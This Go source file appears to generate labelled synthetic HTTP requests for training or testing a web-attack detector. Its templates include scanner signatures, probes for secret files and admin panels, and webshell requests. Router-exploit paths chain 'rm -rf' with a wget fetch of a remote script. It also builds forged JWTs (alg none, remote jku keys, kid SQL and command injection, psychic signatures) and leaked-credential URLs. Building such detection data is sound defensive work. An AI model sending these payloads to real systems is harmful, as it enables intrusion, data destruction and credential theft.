package east

func scanners() []family {
	return []family{
		{name: "scanner/agent-sql-tools", place: "header",
			reqs: one("GET /v1/products?id=‹1..99›\n> user-agent: §", "GET /\n> user-agent: §"),
			vals: one("sqlmap/1.‹4..9›.‹1..12›#stable (https://sqlmap.org)", "sqlninja/0.2.6", "Havij/1.1", "ghauri/1.‹1..4›", "jSQL Injection v0.‹80..99›")},
		{name: "scanner/agent-web-scanners", place: "header",
			reqs: one("GET /\n> user-agent: §", "GET /login\n> user-agent: §", "HEAD /admin/\n> user-agent: §"),
			vals: one("Mozilla/5.00 (Nikto/2.‹1..5›.‹0..9›) (Evasions:None) (Test:‹#6›)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "w3af.org", "Wapiti/3.‹0..2›", "Acunetix-Scanner/‹ver›", "Arachni/v1.‹4..6›", "OpenVAS-VT ‹ver›", "WhatWeb/0.5.‹1..5›", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")},
		{name: "scanner/agent-fuzzers", place: "header",
			reqs: one("GET /‹w5›\n> user-agent: §", "GET /backup/‹w6›.zip\n> user-agent: §"),
			vals: one("gobuster/3.‹1..6›", "Fuzz Faster U Fool v2.‹0..1›.0", "feroxbuster/2.‹7..11›.0", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "Wfuzz/3.1.0", "dirsearch", "masscan/1.‹0..3› (https://github.com/robertdavidgraham/masscan)", "zgrab/0.x", "commix/v3.‹7..9›-stable (https://commixproject.com)")},
		{name: "scanner/secret-files", place: "path",
			reqs: one("GET /¤", "HEAD /¤", "GET /api/¤"),
			vals: one(".env‹|.bak|.production|.local›", ".git/‹config|HEAD|index|logs/HEAD›", ".svn/entries", ".DS_Store", ".aws/credentials", "id_rsa", "wp-config.php.‹bak|old|swp›", "web.config.bak", ".htpasswd", "docker-compose.yml", "config/database.yml", "backup.sql.gz", ".vscode/sftp.json")},
		{name: "scanner/admin-panels", place: "path",
			reqs: one("GET /¤", "POST /¤ form\nlog=admin&pwd=‹w6›"),
			vals: one("wp-login.php", "phpmyadmin/index.php", "pma/scripts/setup.php", "manager/html", "administrator/index.php", "wp-admin/admin-ajax.php", "xmlrpc.php", "solr/admin/cores", "jmx-console/", "HNAP1/", "owa/auth/x.js", "cgi-bin/luci/;stok=/locale")},
		{name: "scanner/framework-probes", place: "path",
			reqs: one("GET /¤", "POST /¤ json\n{}"),
			vals: one("actuator/‹heapdump|env|gateway/routes|jolokia›", "_ignition/execute-solution", "telescope/requests", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "debug/pprof/heap", "_profiler/phpinfo", "server-status?auto", "console/images/%252e%252e%252fconsole.portal", "struts2-showcase/index.action", "druid/indexer/v1/sampler", "latest/meta-data/")},
		{name: "scanner/tool-headers", place: "header",
			reqs: one("GET /\n> x-scanner: §", "GET /v1/me\n> x-burp-test: §", "GET /\n> acunetix-aspect: §", "GET /search?q=‹word›\n> x-wipp: §"),
			vals: one("Netsparker", "enabled; acunetix_wvs_security_test", "Arachni/‹ver›; arachni_‹x32›", "Qualys-Scan", "nessus::SOAP")},
		{name: "scanner/canary-values", place: strict,
			vals: one("sqlmap‹#4›", "acunetix_wvs_security_test", "wvstest‹#6›", "arachni_text_‹x12›", "nessus‹#4›was_text", "zapXSS‹#3› netsparker(0x‹X6›)", "w3af‹w5›.burpcollaborator.net", "\"><netsparker>‹#4›")},
		{name: "scanner/webshells", place: "path",
			reqs: one("GET /¤", "POST /uploads/¤ form\ncmd=id"),
			vals: one("‹c99|r57|wso|b374k|alfa›.php", "shell.php?cmd=id", "images/‹w4›.php?pass=‹w4›", "wp-content/plugins/hello/‹w5›.php", "cmd.jsp?cmd=whoami", "tmp/.‹w3›.php", "aspxspy.aspx")},
		{name: "scanner/router-exploit-path", place: "path",
			reqs: one("GET /¤", "POST /¤ form\na=1"),
			vals: one("boaform/admin/formLogin?username=admin&psw=admin", "GponForm/diag_Form?images/", "setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=‹wget|busybox›+http://‹ip›/‹w3›", "cgi-bin/nobody/Search.cgi?action=cgi_query&ip=google.com", "shell?cd+/tmp;rm+-rf+*;wget+http://‹ip›/‹w4›.sh", "currentsetting.htm")},
	}
}

func tokens() []family {
	claims := "‹b64u:{\"sub\":\"‹admin|1|‹l6››\",\"role\":\"‹admin|superuser›\",\"iat\":‹s›,\"exp\":‹s›9}›"
	bearer := one("GET /v1/admin/users\n> authorization: Bearer §", "GET /v1/me\n> authorization: Bearer §", "DELETE /v1/patients/‹#6›\n> x-access-token: §")
	head := func(rest string) string { return "‹b64u:{\"alg\":\"" + rest + "}›." + claims + "." }
	return []family{
		{name: "token/alg-none", place: "header", reqs: bearer,
			vals: one(head("none\",\"typ\":\"JWT\""), head("None\""), head("NONE\",\"kid\":\"‹w6›\""), head("nOnE\",\"typ\":\"JWT\"")+"‹|‹U32››")},
		{name: "token/alg-none-elsewhere", place: "cookie query json form",
			vals: one(head("none\",\"typ\":\"JWT\""), head("NonE\""), head("none\"")+"‹U20›")},
		{name: "token/empty-signature", place: "header", reqs: bearer,
			vals: one(head("HS256\",\"typ\":\"JWT\""), head("RS256\",\"kid\":\"‹U12›\""), head("ES256\""))},
		{name: "token/embedded-key", place: "header", reqs: bearer,
			vals: one(head("RS256\",\"typ\":\"JWT\",\"jwk\":{\"kty\":\"RSA\",\"kid\":\"‹w8›\",\"e\":\"AQAB\",\"n\":\"‹U90›\"}")+"‹U64›", head("ES256\",\"jwk\":{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"‹U32›\",\"y\":\"‹U32›\"}")+"‹U64›", head("HS256\",\"jwk\":{\"kty\":\"oct\",\"k\":\"‹U16›\"}")+"‹U32›")},
		{name: "token/remote-key", place: "header cookie", reqs: nil,
			vals: one(head("RS256\",\"jku\":\"http://‹oob›/jwks.json\"")+"‹U64›", head("RS256\",\"x5u\":\"https://‹oob›/c.pem\",\"kid\":\"‹w4›\"")+"‹U64›", head("RS256\",\"jku\":\"https://id.‹slug›.com@‹oob›/k\"")+"‹U64›")},
		{name: "token/kid-injection", place: "header", reqs: bearer,
			vals: one(head("HS256\",\"kid\":\"‹4..8**../›dev/null\"")+"‹U32›", head("HS256\",\"kid\":\"x' UNION SELECT '‹w6›'-- -\"")+"‹U32›", head("HS256\",\"kid\":\"/etc/hostname\"")+"‹U32›", head("HS256\",\"kid\":\"‹w4›.pem;‹cmd›\"")+"‹U32›", head("HS256\",\"kid\":\"http://‹oob›/k\"")+"‹U32›")},
		{name: "token/unknown-crit", place: "header", reqs: bearer,
			vals: one(head("RS256\",\"crit\":[\"‹w6›\"],\"‹w6›\":true")+"‹U64›", head("HS256\",\"crit\":[\"bypass\",\"noverify\"],\"bypass\":1")+"‹U32›")},
		{name: "token/x5c-own-chain", place: "header", reqs: bearer,
			vals: one(head("RS256\",\"x5c\":[\"MIIC‹B300›\"],\"jku\":\"http://‹oob›/\"")+"‹U64›", head("RS256\",\"x5c\":[\"MIID‹B240›\"],\"jwk\":{\"kty\":\"RSA\",\"n\":\"‹U60›\",\"e\":\"AQAB\"}")+"‹U64›")},
		{name: "token/psychic-signature", place: "header", reqs: bearer,
			vals: one(head("ES256\",\"typ\":\"JWT\"")+"MAYCAQACAQA", head("ES256\"")+"‹86**A›")},
		{name: "token/none-in-body", place: "json",
			reqs: one("POST /oauth/introspect json\n{\"token\":\"§\"}", "POST /v1/session/refresh json\n{\"refresh\":\"§\",\"device\":\"‹uuid›\"}"),
			vals: one(head("none\""), head("nonE\",\"typ\":\"JWT\"")+"‹|‹U12››", head("RS256\",\"jku\":\"//‹oob›/j\"")+"‹U64›")},
	}
}

func credentials() []family {
	return []family{
		{name: "urlcredential/userinfo", place: "json form header",
			vals: one("https://‹l5›:‹W12›@‹apihost›/v1/‹word›", "http://admin:‹W9›@‹slug›.com:8080/", "https://x-access-token:ghp_‹W36›@github.com/‹l6›/‹word›.git", "postgres://‹l5›:‹W14›@db.‹slug›.com:5432/‹word›", "ftp://‹l5›:‹W8›@‹ip›/‹word›.csv")},
		{name: "urlcredential/password-query", place: "query",
			reqs: one("GET /login?username=‹mail›&password=§", "GET /api/auth?user=‹l6›&pwd=§&remember=1", "GET /v1/session?login=‹l5›&passwd=§", "GET /giris?kullanici=‹l5›&password=§"),
			vals: one("‹W10›!", "‹word›‹#4›", "‹first›@‹20..99›", "‹w6›#‹W4›")},
		{name: "urlcredential/api-key-query", place: "query",
			reqs: one("GET /v1/charges?api_key=§&limit=‹10..50›", "GET /v2/geo?q=‹word›&apikey=§", "GET /data?format=json&secret=§", "GET /v1/reports?client_secret=§&client_id=‹w12›"),
			vals: one("sk_live_‹W24›", "AIza‹W35›", "‹x40›", "SG.‹U16›.‹U32›", "AKIA‹X16›", "xoxb-‹#11›-‹#12›-‹W24›")},
		{name: "urlcredential/access-token-query", place: "query",
			reqs: one("GET /v1/me?access_token=§", "GET /files/‹#6›/download?token=§", "GET /ws/connect?auth_token=§&v=‹1..4›", "POST /v1/events?bearer=§ json\n{\"e\":\"‹word›\"}"),
			vals: one("‹jwt›", "ghp_‹W36›", "ya29.‹U90›", "gho_‹W36›")},
		{name: "urlcredential/in-referer", place: "header",
			reqs: one("GET /v1/banner\n> referer: §"),
			vals: one("https://‹webhost›/login?user=‹l5›&password=‹W10›", "https://‹webhost›/cb?access_token=‹jwt›&token_type=bearer", "https://‹l5›:‹W10›@‹webhost›/‹route›", "https://‹webhost›/?api_key=sk_live_‹W24›")},
		{name: "urlcredential/in-path", place: "path",
			reqs: one("GET /api/§/projects", "GET /auth/token/§/refresh", "POST /bot§/sendMessage json\n{\"chat_id\":‹#9›,\"text\":\"‹word›\"}"),
			vals: one("‹jwt›", "sk_live_‹W24›", "‹#10›:AA‹U24›", "ghp_‹W36›")},
		{name: "urlcredential/private-key-fragment", place: "query",
			reqs: one("GET /import?private_key=§", "GET /wallet?mnemonic=‹word›+‹word›&privkey=§", "GET /v1/sign?aws_secret_access_key=§&region=sa-east-1"),
			vals: one("-----BEGIN RSA PRIVATE KEY-----‹B90›", "0x‹x64›", "‹B30›", "‹W40›")},
	}
}
